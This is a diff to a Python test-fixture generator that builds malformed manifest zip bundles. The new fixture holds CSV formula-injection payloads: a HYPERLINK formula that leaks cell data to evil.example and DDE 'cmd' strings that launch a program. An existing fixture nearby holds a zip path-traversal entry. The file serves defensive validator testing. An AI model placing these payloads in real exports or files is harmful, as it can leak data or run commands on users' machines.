@@ -188,6 +188,28 @@ def _manifest_bundle(bad_rows: list[dict[str, str]], columns: tuple[str, ...] = 
     return _zip({"manifest.csv": manifest_text(rows, columns).encode(), **files})
 
 
+FORMULA_REASONS: tuple[str, ...] = (
+    '=HYPERLINK("http://evil.example/leak?x="&A2,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "'=already quoted",
+    "-1.5",
+)
+"""Exclusion reasons a spreadsheet would run (OWASP CSV injection), and two that look alike
+but are not formulas; all are valid text, imported as typed (leading whitespace trimmed)."""
+
+
+def manifest_formula_injection() -> bytes:
+    """Valid rows whose free text would run as formulas in a spreadsheet opening the export."""
+    rows = [
+        row(f"INJ-{i:03d}", f"inj{i}.png", exclusion_reason=r)
+        for i, r in enumerate(FORMULA_REASONS)
+    ]
+    return _manifest_bundle(rows)
+
+
 def zip_path_traversal() -> bytes:
     """A member that would land two folders above wherever the zip were extracted."""
     rows = [row("BAD-001", "../../x.png")]
@@ -342,6 +364,7 @@ CASES: tuple[tuple[str, Callable[[], bytes]], ...] = (
     ("manifest_case_duplicate_codes.zip", manifest_case_duplicate_codes),
     ("manifest_compact_dates.zip", manifest_compact_dates),
     ("manifest_unclosed_quote.zip", manifest_unclosed_quote),
+    ("manifest_formula_injection.zip", manifest_formula_injection),
     ("zip_bad_crc.zip", zip_bad_crc),
     ("zip_corrupt_deflate.zip", zip_corrupt_deflate),
     ("zip_encrypted_flag.zip", zip_encrypted_flag),
